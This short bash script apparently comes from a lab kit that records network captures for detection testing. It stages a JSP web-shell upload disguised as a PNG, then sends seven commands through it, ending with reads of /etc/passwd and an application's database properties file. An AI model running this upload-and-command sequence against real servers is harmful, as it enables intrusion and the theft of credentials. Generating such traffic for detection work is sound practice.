#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# makes: webshell-jsp.pcap	curl, Python stand-in	a JSP page uploaded through a form, then used: seven commands with their output
. "$(dirname "$0")/lib.sh"
need curl:curl
lab attacker app
victim_on app
UA='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36'
# the text has the marks of a web shell and does not compile
printf '%s\n' '<%@ page import="java.io.*" %>' '<% /* laboratory text, not a program */' \
	'Runtime.getRuntime().exec(request.getParameter("cmd")) %>' >"$TMP/help.jsp"
B=http://${ADDR[app]}:8080
record "$OUT/webshell-jsp.pcap"
on attacker curl -s -o /dev/null -A "$UA" -F "file=@$TMP/help.jsp;type=image/png" "$B/upload.do"
for cmd in id whoami hostname 'uname -a' 'ip addr' 'cat /etc/passwd' 'cat /opt/app/db.properties'; do
	sleep 0.3
	on attacker curl -s -o /dev/null -A "$UA" --data-urlencode "cmd=$cmd" "$B/upload/help.jsp"
done
finish
